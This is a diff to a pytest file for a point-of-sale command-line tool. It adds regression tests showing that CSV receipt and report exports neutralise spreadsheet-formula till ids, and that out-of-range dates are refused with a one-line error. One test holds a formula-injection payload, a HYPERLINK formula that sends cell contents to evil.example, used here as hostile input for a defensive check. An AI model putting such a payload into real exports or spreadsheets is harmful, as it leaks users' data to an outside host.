@@ -74,18 +74,23 @@ def test_missing_column_and_missing_file(tmp_path):
     assert pos("--data-dir", str(data), "catalog", "import", str(tmp_path / "nope.csv")).returncode == 2
 
 
-def test_receipts_export_after_sales(tmp_path, sandbox, api_key):
-    data = tmp_path / "data"
-    env = {"POS_STRIPE_API_KEY": api_key}
+def _sell(data, sandbox, api_key, count: int) -> None:
+    """`count` card sales through the app's own wiring (tests/helpers/sell.py), in its own process."""
     sold = subprocess.run(
-        [sys.executable, "-m", "tests.helpers.sell", str(data), sandbox.url, "3"],
+        [sys.executable, "-m", "tests.helpers.sell", str(data), sandbox.url, str(count)],
         capture_output=True,
         text=True,
-        env=dict(os.environ, PYTHONPATH=str(ROOT), **env),
+        env=dict(os.environ, PYTHONPATH=str(ROOT), POS_STRIPE_API_KEY=api_key),
         cwd=ROOT,
         timeout=120,
     )
     assert sold.returncode == 0, sold.stderr
+
+
+def test_receipts_export_after_sales(tmp_path, sandbox, api_key):
+    data = tmp_path / "data"
+    env = {"POS_STRIPE_API_KEY": api_key}
+    _sell(data, sandbox, api_key, 3)
     as_csv = pos("--data-dir", str(data), "receipts", "export", env=env)
     rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
     assert [r["receipt_no"] for r in rows] == ["1", "2", "3"]
@@ -124,3 +129,38 @@ def test_receipts_export_after_sales(tmp_path, sandbox, api_key):
         "payment_intent": records[2]["payment_intent"],
         "card_last4": "4242",
     }
+
+
+def test_csv_exports_quote_a_till_id_a_spreadsheet_would_run(tmp_path, sandbox, api_key):
+    """Hostile-tester finding: the catalog export quoted formula cells, but `pos report --format csv`
+    and `pos receipts export` wrote a till id (settings, or another till's through the shop) such as
+    =HYPERLINK(…) as it was: the accountant's spreadsheet runs it. Amounts stay numbers."""
+    data = tmp_path / "data"
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"T1")'
+    assert pos("--data-dir", str(data), "settings", "set", "till_id", hostile).returncode == 0
+    _sell(data, sandbox, api_key, 1)
+    [row] = list(csv.DictReader(io.StringIO(pos("--data-dir", str(data), "receipts", "export").stdout)))
+    assert row["till_id"] == "'" + hostile and row["total_minor"] == "450"
+    day = row["created_at"][:10]
+    report = pos("--data-dir", str(data), "report", "--date", day, "--format", "csv")
+    cells = {(r["section"], r["item"]): r["value"] for r in csv.DictReader(io.StringIO(report.stdout))}
+    assert cells[("report", "till_id")] == "'" + hostile
+    assert cells[("totals", "gross")] == "4.50"
+    assert not [v for v in cells.values() if v.startswith(("=", "+", "@"))]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ("report", "--date", "0001-01-01"),
+        ("report", "--date", "9999-12-31"),
+        ("audit", "export", "--from", "0001-01-01"),
+        ("audit", "export", "--to", "9999-12-31"),
+    ],
+)
+def test_a_date_at_the_calendars_edge_is_refused_in_one_line(tmp_path, command):
+    """Hostile-tester finding: the day's bounds in the store's time zone fell in year 0 or 10000 and
+    the command said only "failed unexpectedly (ValueError)"."""
+    done = pos("--data-dir", str(tmp_path / "data"), *command)
+    assert done.returncode == 2, done.stderr
+    assert done.stderr.startswith("error: ") and "take" in done.stderr and done.stderr.count("\n") == 1
